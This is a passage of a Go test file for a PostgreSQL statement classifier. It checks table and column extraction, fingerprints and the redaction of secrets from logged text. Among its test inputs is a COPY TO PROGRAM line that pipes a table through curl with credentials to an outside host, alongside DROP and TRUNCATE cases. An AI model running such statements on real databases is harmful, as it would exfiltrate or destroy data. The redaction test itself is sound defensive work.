		{"ok/copy-columns", "COPY customers (name, email) TO STDOUT",
			[]string{"customers?"}, []string{"customers.email", "customers.name"}, nil},
		{"ok/drop", "DROP TABLE app.customers, orders",
			[]string{"app.customers!", "orders?!"}, []string{"app.customers.*", "orders.*"}, nil},
		{"ok/truncate", "TRUNCATE customers",
			[]string{"customers?!"}, []string{"customers.*"}, nil},
		{"ok/drop-schema-cascade", "DROP SCHEMA app CASCADE",
			[]string{"app.*!"}, []string{"app.*.*"}, nil},
		{"ok/quoted-and-unicode-names", `SELECT "ssn" FROM U&"\0063ustomers"`,
			[]string{"customers?"}, []string{"customers.ssn"}, nil},
		{"ok/case-folding", "SeLeCt SSN FrOm CUSTOMERS",
			[]string{"customers?"}, []string{"customers.ssn"}, nil},
		{"ok/functions", "SELECT pg_catalog.lower(a), count(*) FROM t",
			[]string{"t?"}, []string{"t.a"}, []string{"count", "pg_catalog.lower"}},
		{"ok/create-view-reads", "CREATE VIEW v AS SELECT ssn FROM customers",
			[]string{"customers?", "v?!"}, []string{"customers.ssn", "v.*"}, nil},
		{"ok/lock-clause-alias-not-a-table", "SELECT * FROM customers c FOR UPDATE OF c",
			[]string{"customers?"}, []string{"customers.*"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			facts, err := Classify(tt.sql)
			if err != nil {
				t.Fatal(err)
			}
			if got := tableNames(facts.Tables); !slices.Equal(got, tt.tables) {
				t.Errorf("tables = %v, want %v", got, tt.tables)
			}
			if got := columnNames(facts.Columns); !slices.Equal(got, tt.columns) {
				t.Errorf("columns = %v, want %v", got, tt.columns)
			}
			if !slices.Equal(facts.Functions, tt.functions) {
				t.Errorf("functions = %v, want %v", facts.Functions, tt.functions)
			}
		})
	}
}

// TestSearchPathDependent: a statement that names a table or function
// without a schema depends on search_path; a fully qualified one does not.
func TestSearchPathDependent(t *testing.T) {
	tests := []struct {
		sql  string
		want bool
	}{
		{"SELECT * FROM customers", true},
		{"SELECT lower('a')", true},
		{"SELECT pg_catalog.lower(a) FROM public.customers WHERE id OPERATOR(pg_catalog.=) 1", false},
		{"SELECT 1", false},
	}
	for _, tt := range tests {
		facts, err := Classify(tt.sql)
		if err != nil {
			t.Fatal(err)
		}
		if facts.SearchPathDependent != tt.want {
			t.Errorf("Classify(%q).SearchPathDependent = %v, want %v", tt.sql, facts.SearchPathDependent, tt.want)
		}
	}
}

// TestClassifyErrors: a string that cannot be read is unknown, with an
// error that names the problem and never repeats the text near it.
func TestClassifyErrors(t *testing.T) {
	tests := []struct{ name, sql, want string }{
		{"fail/syntax", "SELECT 1 hunter2 hunter3", "syntax error"},
		{"fail/nul", "SELECT 'hunter2'\x00", "NUL byte"},
		{"fail/utf8", "SELECT 'hunter2\xc3'", "UTF-8"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			facts, err := Classify(tt.sql)
			if !errors.Is(err, ErrUnparsable) {
				t.Fatalf("err = %v, want ErrUnparsable", err)
			}
			if facts.Class != ClassUnknown || len(facts.Statements) != 0 || facts.Normalized != "" {
				t.Errorf("facts = %+v, want unknown and nothing else", facts)
			}
			if !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "hunter") {
				t.Errorf("err = %q, want it to say %q and not repeat the text", err, tt.want)
			}
		})
	}
}

// TestNormalizedNeverHoldsValues: the normalized text and the
// fingerprint, which the sign-in log keeps, never carry a constant, a
// comment, a password or a COPY program.
func TestNormalizedNeverHoldsValues(t *testing.T) {
	for _, sql := range []string{
		"SELECT * FROM customers WHERE ssn = 'hunter2'",
		"SELECT 'x' /* hunter2 */, 42 -- hunter2",
		"ALTER ROLE bob PASSWORD 'hunter2'",
		"CREATE USER bob WITH PASSWORD 'hunter2'",
		"CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 'hunter2')",
		"COPY t TO PROGRAM 'curl -u admin:hunter2 https://x'",
		"COPY t FROM '/home/hunter2/data.csv'",
		"DO $$BEGIN PERFORM 'hunter2'; END$$",
		"SELECT set_config('app.secret', 'hunter2', false)",
		"SET app.secret = 'hunter2'",
		"INSERT INTO t VALUES ('hunter2', $$hunter2$$, E'hunter2')",
		"SELECT 1; UPDATE t SET pw = 'hunter2' WHERE id = 1",
		"CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$SELECT 'hunter2'$$",
	} {
		facts, err := Classify(sql)
		if err != nil {
			t.Fatalf("Classify(%q): %v", sql, err)
		}
		texts := []string{facts.Normalized, facts.Fingerprint}
		for _, st := range facts.Statements {
			texts = append(texts, st.Normalized, st.Fingerprint)
		}
		for _, text := range texts {
			if strings.Contains(text, "hunter2") {
				t.Errorf("Classify(%q) kept the value: %q", sql, text)
			}
		}
		if facts.Normalized == "" || facts.Fingerprint == "" {
			t.Errorf("Classify(%q): no normalized text or fingerprint", sql)
		}
	}
}

// TestFingerprint: the same statement with other values has the same
// fingerprint; another statement has another.
func TestFingerprint(t *testing.T) {
	fp := func(sql string) string {
		t.Helper()
		facts, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		return facts.Fingerprint
	}
	a := fp("SELECT * FROM t WHERE id = 1")
	if b := fp("select *  from t where id = 99 /* other */"); a != b {
		t.Errorf("fingerprints differ for the same shape: %s %s", a, b)
	}
	if c := fp("SELECT * FROM u WHERE id = 1"); a == c {
		t.Errorf("fingerprint %s shared by two tables", a)
	}
}

// TestClassifyPrepares: PREPARE and EXECUTE name the prepared statement,
// so a gateway can carry its facts to a later EXECUTE.
func TestClassifyPrepares(t *testing.T) {
	facts, err := Classify("PREPARE del AS DELETE FROM t WHERE id = $1")
	if err != nil {
		t.Fatal(err)
	}
	if facts.Statements[0].Prepares != "del" || facts.Class != ClassWrite {
		t.Errorf("prepare: %+v", facts.Statements[0])
	}
	facts, _ = Classify("EXECUTE del(1)")
	if facts.Statements[0].Executes != "del" || facts.Class != ClassUnknown {
		t.Errorf("execute alone: %+v, want unknown naming del", facts.Statements[0])
	}
}

func TestParseClass(t *testing.T) {
	for c := ClassSession; c <= ClassUnknown; c++ {
		got, err := ParseClass(c.String())
		if err != nil || got != c {
			t.Errorf("ParseClass(%q) = %v, %v", c.String(), got, err)
		}
	}
	if _, err := ParseClass("dml"); err == nil || !strings.Contains(err.Error(), "read") {
		t.Errorf("ParseClass(dml) err = %v, want the list of classes", err)
	}
	if !ClassUnknown.AtLeast(ClassPrivilege) || ClassRead.AtLeast(ClassWrite) {
		t.Error("classes are not ordered by sensitivity")
	}
}
